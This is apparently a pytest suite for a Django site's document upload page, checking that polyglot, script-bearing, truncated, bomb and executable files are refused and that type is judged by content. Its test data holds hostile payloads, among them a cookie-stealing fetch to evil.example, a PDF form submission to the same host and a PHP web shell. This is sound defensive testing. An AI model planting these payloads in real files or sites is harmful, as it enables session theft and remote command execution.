"""Hostile files through the real document upload page.

Policy: a supporting document is a PDF, JPEG or PNG and nothing more. Polyglots (also a ZIP,
or carrying a web page, a script or PHP), data after the end of a PDF, PDFs with JavaScript or
embedded files, truncated files, decompression bombs, empty files and executables are refused
with the reason next to the file field; nothing is stored, the draft and its earlier
documents are untouched. A file's type is what its content is, never what its name says.
"""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from applications.models import Application, Document
from tests import factories
from tests.applications.conftest import tiny_pdf, tiny_png, upload_document
from tests.clients import exporter_client
from tests.security import hostile_pdfs, sandbox_targets

pytestmark = pytest.mark.django_db


# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------


def tiny_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 32), "navy").save(buffer, "JPEG")
    return buffer.getvalue()


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("invoice.html", "<b>not an invoice</b>")
    return buffer.getvalue()


def _pdf_with(change) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(tiny_pdf())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_open_action_javascript() -> bytes:
    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('pwned');"),
            }
        )

    return _pdf_with(change)


def pdf_with_document_javascript() -> bytes:
    """JavaScript in the document's name tree, in an indirect object of its own."""

    def change(writer: PdfWriter) -> None:
        action = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("this.submitForm('https://evil.example')"),
                }
            )
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {
                NameObject("/JavaScript"): DictionaryObject(
                    {NameObject("/Names"): ArrayObject([TextStringObject("run"), action])}
                )
            }
        )

    return _pdf_with(change)


def pdf_with_embedded_file() -> bytes:
    return _pdf_with(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00" + b"\x00" * 64))


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares width x height pixels (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


REFUSED = {
    # name: (bytes, file name, a phrase of the reason shown next to the field)
    "a PDF that is also a ZIP archive": (tiny_pdf() + zip_archive(), "invoice.pdf", "ZIP archive"),
    "a PDF carrying an HTML page": (
        tiny_pdf() + b"<html><body><script>alert(document.domain)</script></body></html>",
        "invoice.pdf",
        "web page or script code",
    ),
    "a PDF carrying JavaScript after its end": (
        tiny_pdf() + b"\nfetch('https://evil.example/?c='+document.cookie);\n",
        "invoice.pdf",
        "after the end of the PDF",
    ),
    "a JPEG carrying PHP": (
        tiny_jpeg() + b"<?php system($_GET['cmd']); ?>",
        "packing.jpg",
        "web page or script code",
    ),
    "a PDF that runs JavaScript when opened": (
        pdf_with_open_action_javascript(),
        "invoice.pdf",
        "JavaScript",
    ),
    "a PDF with document-level JavaScript": (
        pdf_with_document_javascript(),
        "invoice.pdf",
        "JavaScript",
    ),
    "a PDF with an embedded file": (pdf_with_embedded_file(), "invoice.pdf", "embedded files"),
    "a truncated PDF": (tiny_pdf()[: len(tiny_pdf()) // 2], "invoice.pdf", "damaged"),
    "a truncated PNG": (tiny_png()[: len(tiny_png()) // 2], "invoice.png", "damaged"),
    "a truncated JPEG": (tiny_jpeg()[: len(tiny_jpeg()) // 2], "invoice.jpg", "damaged"),
    "a 30000x30000 PNG bomb": (png_declaring(30000, 30000), "invoice.png", "too large in pixels"),
    "an empty file": (b"", "invoice.pdf", "empty"),
    "an executable named invoice.pdf": (
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program cannot be run in DOS mode",
        "invoice.pdf",
        "none of these, whatever its name says",
    ),
}


# ---------------------------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def draft(alice, eic_mumbai) -> Application:
    return factories.ApplicationFactory(exporter=alice, office=eic_mumbai)


@pytest.fixture
def alice_client(alice):
    return exporter_client(alice)


def upload(client, application: Application, data: bytes, name: str, kind="commercial_invoice"):
    return upload_document(client, application, data, name, kind)


# ---------------------------------------------------------------------------------------------
# Refusals
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_a_hostile_file_is_refused_with_its_reason_next_to_the_field(case, alice_client, draft):
    data, name, reason = REFUSED[case]
    response = upload(alice_client, draft, data, name)

    assert response.status_code == 422  # the page again, with the error; not a 500
    errors = response.context["form"].errors["file"]
    assert any(reason in error for error in errors), errors
    body = response.content.decode()
    assert 'id="id_file_error"' in body  # next to the field, GOV.UK style
    assert "There is a problem" in body or "error-summary" in body
    assert not draft.documents.exists()


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_a_refused_replacement_keeps_the_document_already_uploaded(case, alice_client, draft):
    assert upload(alice_client, draft, tiny_pdf(), "invoice.pdf").status_code == 302
    kept = draft.documents.get()
    with kept.file.open("rb") as stored:
        kept_bytes = stored.read()

    data, name, _reason = REFUSED[case]
    upload(alice_client, draft, data, name)

    draft.refresh_from_db()
    assert draft.status == "draft"
    assert list(draft.documents.all()) == [kept]
    with kept.file.open("rb") as stored:
        assert stored.read() == kept_bytes


@pytest.mark.parametrize("case", ["a PDF with an embedded file", "a JPEG carrying PHP"])
def test_a_refused_file_leaves_nothing_in_storage(case, alice_client, draft):
    data, name, _ = REFUSED[case]
    upload(alice_client, draft, data, name)
    assert not Document.objects.exists()
    sha256 = hashlib.sha256(data).hexdigest()
    assert not default_storage.exists(f"documents/{draft.reference}/{sha256}")


# ---------------------------------------------------------------------------------------------
# The content decides the type, never the name
# ---------------------------------------------------------------------------------------------


def test_a_png_named_pdf_is_stored_and_served_as_a_png(alice_client, draft):
    assert upload(alice_client, draft, tiny_png(), "invoice.pdf").status_code == 302
    document = draft.documents.get()
    assert document.content_type == "image/png"

    response = alice_client.get(
        reverse("applications:document", args=[draft.reference, document.pk])
    )
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert 'filename="invoice.png"' in response["Content-Disposition"]


def test_a_pdf_named_jpg_is_stored_as_a_pdf(alice_client, draft):
    assert upload(alice_client, draft, tiny_pdf(), "scan.jpg").status_code == 302
    assert draft.documents.get().content_type == "application/pdf"


def test_an_ordinary_pdf_jpeg_and_png_are_still_accepted(alice_client, draft):
    for data, name, kind in (
        (tiny_pdf(), "invoice.pdf", "commercial_invoice"),
        (tiny_jpeg(), "packing.jpg", "packing_list"),
        (tiny_png(), "bl.png", "bill_of_lading"),
    ):
        assert upload(alice_client, draft, data, name, kind=kind).status_code == 302, name
    assert sorted(draft.documents.values_list("content_type", flat=True)) == [
        "application/pdf",
        "image/jpeg",
        "image/png",
    ]


# ---------------------------------------------------------------------------------------------
# Hostile PDFs (issue 18, finding 4): refused in the limited child, 422 within 2 s each
# ---------------------------------------------------------------------------------------------

MEMORY_BUDGET = 256 * 1024 * 1024  # UPLOAD_CHECK_MEMORY_MB: the child's growth beyond birth


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return hostile_pdfs.write_corpus(tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def warm_sandbox(alice_client, draft):
    """The first check of a process starts the forkserver (once): not part of any timing."""
    assert upload(alice_client, draft, tiny_pdf(), "warm.pdf").status_code == 302


HOSTILE_REASONS = {
    "unchecked": "built in a way no document needs",
    "unsafe": "an action that opens another file or sends data out",
}


@pytest.mark.parametrize("case", sorted(hostile_pdfs.HOSTILE))
def test_a_hostile_pdf_is_refused_with_422_by_a_child_limited_to_2_seconds_of_cpu(
    case, alice_client, draft, hostile, warm_sandbox
):
    # Bounded by the child's limits, not timed here: a wall clock fails on a busy machine.
    kind, path = hostile[case]
    with hostile_pdfs.recorded_sandbox_runs() as runs:
        response = upload(alice_client, draft, path.read_bytes(), "invoice.pdf")

    assert response.status_code == 422
    errors = response.context["form"].errors["file"]
    assert any(HOSTILE_REASONS[kind] in error for error in errors), errors
    assert draft.documents.count() == 1  # the warm-up's only
    # The file was read in a child held to the stated budget.
    (ran,) = runs
    assert ran.address_space_limit == ran.inherited_bytes + MEMORY_BUDGET
    assert ran.peak_rss_bytes < ran.address_space_limit
    assert ran.cpu_limit <= 2


def test_a_pdf_with_a_web_link_and_an_internal_link_is_accepted(alice_client, draft):
    data = hostile_pdfs.web_and_internal_links()
    assert upload(alice_client, draft, data, "invoice.pdf").status_code == 302
    assert draft.documents.get().content_type == "application/pdf"


def test_a_file_that_exhausts_the_budget_is_refused_as_not_checked(
    alice_client, draft, monkeypatch
):
    # A parser stuck on a file: the child is killed and the exporter is told the truth.
    from core import uploads

    monkeypatch.setattr(uploads, "content_check", sandbox_targets.spin)
    response = upload(alice_client, draft, tiny_pdf(), "invoice.pdf")
    assert response.status_code == 422
    assert any("could not be checked" in e for e in response.context["form"].errors["file"])
    assert not draft.documents.exists()
